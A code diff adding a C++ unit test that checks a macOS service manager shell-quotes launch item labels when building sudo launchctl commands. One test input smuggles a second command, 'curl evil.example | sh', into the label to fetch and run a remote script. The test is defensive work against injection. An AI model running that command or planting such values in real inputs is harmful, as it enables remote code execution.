@@ -467,6 +467,16 @@ TEST_F(ServiceActionManagerTest, DisableAndEnableAddressTheAgentInTheUsersDomain
     EXPECT_THAT(logLines, IsEmpty());
 }
 
+TEST(AdministratorCommandTest, TheLabelIsQuotedForTheShell) {
+    LaunchItem item;
+    item.label = "com.example.x; curl evil.example | sh";
+    EXPECT_EQ(ServiceActionManager::administratorCommand(item, false),
+              "sudo launchctl disable 'system/com.example.x; curl evil.example | sh'");
+    item.label = "it's";
+    EXPECT_EQ(ServiceActionManager::administratorCommand(item, true),
+              "sudo launchctl enable 'system/it'\\''s'");
+}
+
 TEST_F(ServiceActionManagerTest, DisablingAnythingButAnAgentIsRefusedWithoutRunningLaunchctl) {
     installLaunchctl();
     struct Case {
